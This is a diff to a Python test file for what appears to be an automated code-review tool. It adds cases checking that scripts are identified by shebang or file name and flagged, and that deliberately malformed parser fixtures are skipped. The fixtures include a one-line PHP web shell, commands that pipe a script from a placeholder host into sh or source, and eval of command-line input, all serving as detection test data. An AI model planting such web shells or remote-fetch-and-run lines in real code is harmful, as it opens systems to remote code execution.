@@ -164,9 +164,13 @@ async def test_scripts_are_read_in_the_language_of_their_first_line_or_name(tmp_
         "a.awk": '{ system("git log " $1) }\n',
         "a.zsh": "eval $1\n",
         "a.fish": "curl -s http://e.example/x | source\n",
+        "page.sh": '<?php system($_GET["a"]);\n',
+        "a.module": '<?php system($_GET["a"]);\n',
+        "run.sh": "#!/usr/bin/env python3\nimport sys\neval(sys.argv[1])\n",
+        "docker/app": "ARG A=1\nFROM a:1\nRUN curl http://e.example/x | sh\n",
     }
     verdict = await review(change(tmp_path, {}, scripts))
-    assert {f.path for f in verdict.findings if f.severity in {"medium", "high"}} == set(scripts)
+    assert {f.path for f in verdict.findings if f.severity not in {"low", "info"}} == set(scripts)
     assert depths(verdict) == dict.fromkeys(scripts, "code")
     assert verdict.status == "complete"
 
@@ -538,6 +542,21 @@ async def test_what_oxlint_reads_and_the_grammar_cannot_is_no_gap(tmp_path: Path
     assert (verdict.status, depths(verdict)) == ("complete", {"a.tsx": "code"})
     broken = await review(change(tmp_path / "broken", {}, {"a.tsx": "export const a = <p>;\n"}))
     assert (broken.status, depths(broken)) == ("incomplete", {"a.tsx": "text"})
+
+
+async def test_what_tests_of_a_parser_read_may_be_broken(tmp_path: Path) -> None:
+    script, class_ = "let a = ;\n", "class A { void f( { }\n"
+    given = {
+        "tests/fixtures/a.js": script,
+        "tests/unit/syntax/a.ts": script,
+        "tests/data/a.py": "def f(:\n",
+        "tests/fixtures/a.sh": "if [ 1 ; then\n",
+        "tests/invalid/A.java": class_,
+    }
+    owed = {"tests/a.test.js": script, "src/samples/a.js": script, "tests/fixtures/A.java": class_}
+    verdict = await review(change(tmp_path, {}, {**given, **owed}))
+    assert set(gaps(verdict)) == set(owed)
+    assert {entry.path for entry in verdict.skipped if not entry.gap} == set(given)
 
 
 async def test_a_moved_file_is_settled_and_one_with_another_suffix_is_not(tmp_path: Path) -> None:
